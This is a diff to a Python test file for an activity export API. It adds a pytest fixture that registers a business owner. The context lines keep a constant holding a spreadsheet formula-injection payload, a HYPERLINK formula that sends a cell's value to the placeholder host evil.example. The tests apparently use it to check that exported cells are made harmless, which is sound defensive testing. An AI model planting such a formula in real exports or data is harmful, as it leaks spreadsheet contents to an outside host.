@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+from collections.abc import AsyncIterator
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
@@ -14,9 +15,17 @@ from api.reading import activity_export
 from api.reading.activity_export import harmless
 from models.identifiers import Prefix, new_id
 from terms.activity import Actor
-from tests.api.calling import Owner, all_seeing, problem, uploaded
+from tests.api.calling import Owner, all_seeing, problem, registered_owner, uploaded
 
 FORMULA = '=HYPERLINK("https://evil.example?x="&A1)'
+
+
+@pytest.fixture(scope="module")
+async def owner(app: FastAPI) -> AsyncIterator[Owner]:
+    """A business of these tests, to which nobody else adds anything."""
+    owner = await registered_owner(app)
+    yield owner
+    await owner.aclose()
 
 
 async def items(owner: Owner, **query: Any) -> list[dict[str, Any]]:
